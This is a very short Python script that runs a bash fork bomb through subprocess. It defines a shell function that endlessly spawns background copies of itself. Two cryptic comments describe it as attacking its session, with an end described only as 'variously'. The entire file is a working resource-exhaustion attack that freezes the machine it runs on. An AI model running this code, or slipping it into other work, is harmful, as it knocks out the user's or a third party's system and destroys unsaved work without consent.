# attacks its session by a bomb of a shell
# ends: variously
import subprocess
subprocess.run(['bash', '-c', 'b() { while :; do b & done; }; b'])
